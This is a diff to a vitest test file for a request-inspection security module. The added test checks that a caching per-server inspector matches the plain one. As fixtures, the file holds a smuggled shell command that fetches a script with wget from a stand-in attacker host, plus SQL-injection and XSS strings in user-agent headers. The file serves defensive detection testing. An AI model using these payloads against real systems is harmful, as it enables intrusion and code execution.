@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { defaultPolicy, policyFor } from '../../../src/security/inspector/policy.js';
-import { inspectRequest } from '../../../src/security/inspector/request.js';
+import { createRequestInspector, inspectRequest } from '../../../src/security/inspector/request.js';
 
 describe('inspectRequest', () => {
   it('passes an ordinary booking request', () => {
@@ -71,5 +71,20 @@ describe('inspectRequest', () => {
   it('judges a string body as raw text', () => {
     const v = inspectRequest({ body: 'name=x&cmd=;wget http://evil.example/x.sh' }, defaultPolicy);
     expect(v.findings[0]).toMatchObject({ location: 'raw_body', kind: 'command_injection' });
+  });
+
+  it('gives the same verdicts through a per-server inspector that remembers repeated values', () => {
+    const inspect = createRequestInspector(2);
+    const agents = [
+      'Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15',
+      "Mozilla/5.0 (X11; Linux x86_64)' or '1'='1' --",
+      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) <script>alert(1)</script>',
+    ];
+    for (let round = 0; round < 3; round++) {
+      for (const ua of agents) {
+        const req = { headers: { 'user-agent': ua } };
+        expect(inspect(req, defaultPolicy)).toEqual(inspectRequest(req, defaultPolicy));
+      }
+    }
   });
 });
